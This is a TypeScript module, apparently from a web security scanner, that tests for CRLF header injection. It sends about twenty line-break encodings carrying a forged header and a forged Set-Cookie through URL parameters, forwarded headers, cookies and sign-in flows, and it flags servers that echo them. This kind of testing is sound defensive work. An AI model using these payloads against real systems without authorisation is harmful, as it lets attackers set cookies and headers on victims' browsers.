import { type Attack, CONCURRENCY, forEach } from "../attack.ts";
import type { HttpRequest } from "../http/request.ts";
import type { HttpResponse } from "../http/response.ts";
import { changePassword, newAddress, ownHost, send, signIn, type Target } from "../target.ts";

const HEADER = "X-Forged: yes";
const COOKIE = "Set-Cookie: forged=yes";

const breaks: readonly string[] = [
  "\r\n",
  "\n",
  "\r",
  "%0d%0a",
  "%0a",
  "%0d",
  "%250d%250a",
  "%u000d%u000a",
  "\u560a\u560d",
  "\u010a\u010d",
  "\u0085",
  "\u2028",
  "\u000b",
  "%00%0d%0a",
  "%23%0d%0a",
  "\\r\\n",
  "%e5%98%8a%e5%98%8d",
  "\r\n ",
  "\r\n\t",
  "%20%0d%0a%20",
];

export const headerInjection: Attack = {
  name: "header-injection",
  about: "line breaks in everything that ends up in a response header",
  meaning:
    "A link can make your server send any header of the attacker's choice, cookies included.",
  noun: "requests",
  verb: "injected a header",
  needs: [],

  async run(target, tally) {
    const texts = breaks.flatMap((one) => [HEADER, COOKIE].map((line) => `${one}${line}`));
    const judge = (what: string, response: HttpResponse): void => {
      tally.tried();
      if (isForged(response)) tally.gotThrough(what);
    };
    await forEach(
      texts.flatMap((text) => requestsWith(target, text)),
      CONCURRENCY,
      async (request) => {
        judge(`${request.path}`, await send(target, request));
      },
    );
    if (target.fresh) await trySignedIn(target, texts, judge);
  },
};

/** A URL must encode line breaks, because a raw one would end the request line itself. */
function requestsWith(target: Target, text: string): readonly HttpRequest[] {
  const own = ownHost(target);
  const encoded = encodeURIComponent(text);
  const once = encodeURI(text).replaceAll("%25", "%");
  // The wire sends one byte per character, so UTF-8 is encoded here.
  const bytes = Buffer.from(text.replaceAll(/\r\n?|\n/g, "\r"), "utf8").toString("latin1");
  const headers = {
    Accept: "text/html",
    Referer: `http://${own}/${bytes}`,
    "X-Forwarded-Host": `${own}${bytes}`,
    "X-Forwarded-Uri": `/${bytes}`,
    "X-Forwarded-Proto": `https${bytes}`,
    "Accept-Language": bytes,
    "X-Request-Id": bytes,
    Origin: `http://${own}${bytes}`,
  };
  return [
    { path: `/login?return_to=/${encoded}` },
    { path: `/login?return_to=/${once}&error=${once}` },
    { path: `/setup?return_to=/${encoded}&token=${encoded}` },
    { path: `/setup?return_to=/${once}` },
    { path: `/${once}` },
    { path: `/login/${encoded}` },
    { path: "/logout", form: { return_to: `/${text}` } },
    ...Object.entries(headers).flatMap(([name, value]) => [
      { path: "/forward-auth?deny=401", headers: { Accept: "text/html", [name]: value } },
      { path: "/logout", form: {}, headers: { [name]: value } },
    ]),
    { path: "/account/password", headers: { Cookie: `session=${bytes}` }, form: {} },
  ];
}

/** The account created by setup-race has a line break in its name, and proxies get the name. */
async function trySignedIn(
  target: Target,
  texts: readonly string[],
  judge: (what: string, response: HttpResponse) => void,
): Promise<void> {
  const { account } = target;
  if (account === undefined) return;
  const { username, password, token: session } = account;
  judge("the account name", await send(target, { path: "/forward-auth", session }));
  let from = "";
  for (const [at, text] of texts.entries()) {
    if (at % 5 === 0) from = await newAddress(target);
    const fields = { username, password, return_to: `/${text}` };
    judge("the return target of a sign-in", await signIn(target, fields, { from }));
    const Referer = `http://${ownHost(target)}/${encodeURI(text).replaceAll("%25", "%")}`;
    judge(
      "the refresh after a password change",
      await changePassword(target, account, { Referer }),
    );
  }
}

const isForged = ({ headers, status }: HttpResponse): boolean =>
  status !== 400 &&
  headers.some(
    ([name, value]) =>
      /^\W*x-forged/i.test(name) || (/set-cookie/i.test(name) && /^forged=/.test(value.trim())),
  );
